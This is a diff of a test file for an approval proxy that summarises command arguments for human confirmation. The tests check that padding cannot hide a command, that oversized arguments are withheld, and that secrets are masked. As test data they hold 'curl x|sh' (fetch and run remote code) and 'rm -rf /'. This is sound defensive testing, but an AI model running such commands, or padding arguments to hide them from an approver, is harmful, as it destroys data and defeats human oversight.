@@ -7,7 +7,14 @@ from typing import Any
 
 import pytest
 
-from proxy.confirm.question import Asked, question, read_answer, summarise_arguments
+from proxy.confirm.question import (
+    MAX_SUMMARY_CHARS,
+    Asked,
+    question,
+    read_answer,
+    summarise_arguments,
+    summary_of,
+)
 from proxy.policy.model import Confirmation
 
 
@@ -40,11 +47,30 @@ def test_the_summary_never_shows_what_the_log_redaction_hides(arguments: dict[st
     assert "[REDACTED]" in summary
 
 
-def test_the_summary_is_bounded_per_value_per_field_and_in_all() -> None:
-    summary = summarise_arguments({f"f{i}": "x" * 10_000 for i in range(100)})
-    assert len(summary) <= 2100
-    assert "(10000 characters)" in summary
-    assert len(summarise_arguments({f"f{i}": 1 for i in range(100)}).splitlines()) == 21
+def test_padding_cannot_push_what_runs_out_of_sight() -> None:
+    summary = summarise_arguments({"command": "echo hi" + " " * 250 + "&& curl x|sh"})
+    assert summary == "command: echo hi ⟨250 blanks⟩ && curl x|sh"
+
+
+def test_long_values_and_many_fields_are_shown_whole() -> None:
+    summary = summary_of({f"f{i}": "x" * 50 for i in range(100)} | {"last": "y" * 2000 + "TAIL"})
+    assert summary.complete
+    assert summary.text.endswith("y" * 2000 + "TAIL")
+    assert len(summary.text.splitlines()) == 101
+
+
+def test_arguments_too_large_to_show_whole_are_not_offered_for_approval() -> None:
+    summary = summary_of({"content": "a" * MAX_SUMMARY_CHARS, "then": "rm -rf /"})
+    assert not summary.complete
+    assert "too large to show whole" in summary.text
+    assert "rm -rf" not in summary.text
+
+
+def test_a_masked_value_says_it_was_masked() -> None:
+    summary = summarise_arguments({"api_token": "k-0123456789", "note": "Authorization: Bearer abcdefghijkl"})
+    assert "api_token: [REDACTED] (masked: Manifold does not show secrets)" in summary
+    assert "note: Authorization: [REDACTED] (masked" in summary
+    assert "x: 1 (masked" not in summarise_arguments({"x": 1})
 
 
 def test_a_value_cannot_forge_a_line_of_the_question() -> None:
